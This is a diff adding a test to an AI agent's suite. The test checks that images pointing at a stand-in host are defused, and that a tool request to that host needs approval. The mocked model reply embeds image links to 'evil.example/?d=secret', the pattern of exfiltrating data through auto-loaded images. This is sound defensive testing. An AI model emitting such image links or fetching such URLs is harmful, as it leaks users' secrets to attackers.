@@ -265,6 +265,20 @@ describe('the agent', () => {
     expect(await ask('Once more.', conversation)).toMatchObject({ status: 'clarification' });
   });
 
+  it('tells no picture of another host, and asks before a named host gets a query of the model', async () => {
+    const evil = 'https://evil.example/?d=secret';
+    llm.answers(() => ({ text: `See ![plan](${evil}), ![b][r] and <img src="${evil}">.\n\n[r]: ${evil}\n` }));
+    const conversation = { conversation_id: newId() };
+    const { answer } = await ask('Show it.', conversation);
+    expect(answer).toContain(`[plan (picture at evil.example)](${evil})`);
+    expect(answer).toContain('&lt;img');
+    expect(answer).not.toMatch(/(?<!\\)!\[plan|<img|^\[r\]:/m);
+    const page = { name: 'http_request', arguments: { url: evil } };
+    llm.answers(({ results }) => (results.length === 0 ? { calls: [page] } : { text: 'Read.' }));
+    const asked = await ask('Look at evil.example for me.', conversation);
+    expect(asked.input).toMatchObject({ kind: 'approval', tool: { arguments: { url: evil } } });
+  });
+
   it('draws charts of rows', async () => {
     const rows = [
       { month: 'May', orders: 12 },
